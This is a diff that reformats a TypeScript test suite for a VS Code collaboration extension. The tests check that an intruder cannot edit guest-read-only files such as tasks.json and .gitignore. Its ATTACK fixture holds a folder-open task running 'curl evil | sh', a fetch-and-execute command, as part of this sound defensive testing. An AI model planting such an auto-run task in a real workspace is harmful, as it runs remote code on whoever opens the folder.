@@ -27,7 +27,8 @@ const GITIGNORE = `${DIR}/.gitignore`;
 const APP = `${DIR}/app.txt`;
 const NOTES = `${DIR}/notes.txt`;
 const TASKS_ON_DISK = '{"version":"2.0.0","tasks":[]}\n';
-const ATTACK = '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}\n';
+const ATTACK =
+  '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}\n';
 
 suite('host documents: files read-only for guests are never shared as documents', () => {
   let relay: RelayProcess;
@@ -46,14 +47,21 @@ suite('host documents: files read-only for guests are never shared as documents'
       () => frames.some((f) => f.event_type === 'collaboration.snapshot' && f.payload.document === document),
       () => `the intruder's snapshot of ${document} (frames: ${JSON.stringify(frames.filter((f) => f.event_type === 'error'))})`,
     );
-    return frames.find((f): f is Extract<ServerFrame, { event_type: 'collaboration.snapshot' }> => f.event_type === 'collaboration.snapshot' && f.payload.document === document)!.payload;
+    return frames.find(
+      (f): f is Extract<ServerFrame, { event_type: 'collaboration.snapshot' }> =>
+        f.event_type === 'collaboration.snapshot' && f.payload.document === document,
+    )!.payload;
   }
 
   /** The newest revision of `document` the intruder has heard of. */
   function headRev(document: string): number {
     let rev = 0;
     for (const f of frames) {
-      if ((f.event_type === 'collaboration.snapshot' || f.event_type === 'collaboration.edit' || f.event_type === 'collaboration.ack') && f.payload.document === document) rev = Math.max(rev, f.payload.rev);
+      if (
+        (f.event_type === 'collaboration.snapshot' || f.event_type === 'collaboration.edit' || f.event_type === 'collaboration.ack') &&
+        f.payload.document === document
+      )
+        rev = Math.max(rev, f.payload.rev);
     }
     return rev;
   }
@@ -63,7 +71,14 @@ suite('host documents: files read-only for guests are never shared as documents'
   async function intruderEdits(document: string, text: string) {
     const snapshot = await intruderOpens(document);
     const mine = ++seq;
-    intruder.send('collaboration.edit', { document, rev: headRev(document), client_id: 'mallory-1', seq: mine, op: [text], ...(snapshot.epoch && { epoch: snapshot.epoch }) });
+    intruder.send('collaboration.edit', {
+      document,
+      rev: headRev(document),
+      client_id: 'mallory-1',
+      seq: mine,
+      op: [text],
+      ...(snapshot.epoch && { epoch: snapshot.epoch }),
+    });
     await eventually(
       () => frames.some((f) => f.event_type === 'collaboration.ack' && f.payload.document === document && f.payload.seq === mine),
       () => `the ack of the intruder's edit of ${document}`,
@@ -83,15 +98,24 @@ suite('host documents: files read-only for guests are never shared as documents'
     assert.ok(extension);
     api = await extension.activate();
     await vscode.workspace.getConfiguration('tandem').update('relayUrl', relay.httpUrl, vscode.ConfigurationTarget.Global);
-    await vscode.commands.executeCommand('tandem.setPersonalToken', mintPersonalToken(relay.secret, { user: 'hana', name: 'Hana', ttl: '1h' }));
+    await vscode.commands.executeCommand(
+      'tandem.setPersonalToken',
+      mintPersonalToken(relay.secret, { user: 'hana', name: 'Hana', ttl: '1h' }),
+    );
     await vscode.commands.executeCommand('tandem.startSession');
-    await eventually(() => api.session.state === 'live', () => `the session to go live (${api.session.state})`);
+    await eventually(
+      () => api.session.state === 'live',
+      () => `the session to go live (${api.session.state})`,
+    );
 
     const token = mintToken(relay.secret, { user: 'mallory', sessions: [api.session.info!.sessionId], role: 'host', ttl: '1h' });
     intruder = new RelayClient({ url: relay.url, token, transport });
     intruder.onFrame((frame) => frames.push(frame));
     intruder.connect();
-    await eventually(() => intruder.state === 'open', () => `the intruder to connect (${intruder.state})`);
+    await eventually(
+      () => intruder.state === 'open',
+      () => `the intruder to connect (${intruder.state})`,
+    );
   });
 
   suiteTeardown(async () => {
@@ -117,13 +141,19 @@ suite('host documents: files read-only for guests are never shared as documents'
     await vscode.window.showTextDocument(tasks, { preview: false });
 
     // The control: a shared file's editor does take the document's text (that is the attack's lever).
-    await eventually(() => binding(APP) !== undefined && app.getText() === 'the relay’s text\n', () => `app.txt bound to the relay's text (has ${JSON.stringify(app.getText())})`);
+    await eventually(
+      () => binding(APP) !== undefined && app.getText() === 'the relay’s text\n',
+      () => `app.txt bound to the relay's text (has ${JSON.stringify(app.getText())})`,
+    );
     // The intruder edits the read-only documents, then the shared one: once the host has that last
     // edit, it has had every chance to take the others.
     await intruderEdits(TASKS, '// more\n');
     await intruderEdits(GITIGNORE, '!secret.txt\n');
     await intruderEdits(APP, '>> ');
-    await eventually(() => app.getText() === '>> the relay’s text\n', () => `the intruder's edit of app.txt (has ${JSON.stringify(app.getText())})`);
+    await eventually(
+      () => app.getText() === '>> the relay’s text\n',
+      () => `the intruder's edit of app.txt (has ${JSON.stringify(app.getText())})`,
+    );
 
     assert.equal(binding(TASKS), undefined, 'tasks.json is not a shared document');
     assert.equal(binding(GITIGNORE), undefined, '.gitignore is not a shared document');
@@ -137,17 +167,34 @@ suite('host documents: files read-only for guests are never shared as documents'
   test('lets go of a shared document the moment its file becomes read-only for guests, and shares it again after', async () => {
     const app = () => vscode.workspace.textDocuments.find((d) => d.uri.fsPath === join(folder, ...APP.split('/')))?.getText() ?? '';
     const notes = await open(NOTES);
-    await eventually(() => binding(NOTES) !== undefined, () => 'notes.txt to be shared');
-    await vscode.workspace.getConfiguration('tandem').update('readOnlyForGuests', [...DEFAULT_READ_ONLY, NOTES], vscode.ConfigurationTarget.Global);
-    await eventually(() => binding(NOTES) === undefined, () => 'notes.txt to be let go');
+    await eventually(
+      () => binding(NOTES) !== undefined,
+      () => 'notes.txt to be shared',
+    );
+    await vscode.workspace
+      .getConfiguration('tandem')
+      .update('readOnlyForGuests', [...DEFAULT_READ_ONLY, NOTES], vscode.ConfigurationTarget.Global);
+    await eventually(
+      () => binding(NOTES) === undefined,
+      () => 'notes.txt to be let go',
+    );
 
     await intruderEdits(NOTES, 'planted ');
     await intruderEdits(APP, '++ ');
-    await eventually(() => app().startsWith('++ '), () => `the intruder's edit of app.txt (has ${JSON.stringify(app())})`);
+    await eventually(
+      () => app().startsWith('++ '),
+      () => `the intruder's edit of app.txt (has ${JSON.stringify(app())})`,
+    );
     assert.equal(notes.getText(), 'notes on disk\n', 'the edit of the let-go document did not reach the editor');
 
     await vscode.workspace.getConfiguration('tandem').update('readOnlyForGuests', undefined, vscode.ConfigurationTarget.Global);
-    await eventually(() => binding(NOTES) !== undefined, () => 'notes.txt to be shared again');
-    await eventually(() => notes.getText() === 'planted notes on disk\n', () => `notes.txt to take the shared text again (has ${JSON.stringify(notes.getText())})`);
+    await eventually(
+      () => binding(NOTES) !== undefined,
+      () => 'notes.txt to be shared again',
+    );
+    await eventually(
+      () => notes.getText() === 'planted notes on disk\n',
+      () => `notes.txt to take the shared text again (has ${JSON.stringify(notes.getText())})`,
+    );
   });
 });
